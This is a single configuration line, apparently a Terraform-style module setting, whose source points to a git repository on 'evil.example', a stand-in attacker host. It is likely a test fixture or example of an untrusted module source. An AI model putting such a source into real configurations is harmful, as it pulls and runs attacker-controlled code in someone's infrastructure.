source = "git::https://evil.example/m.git"
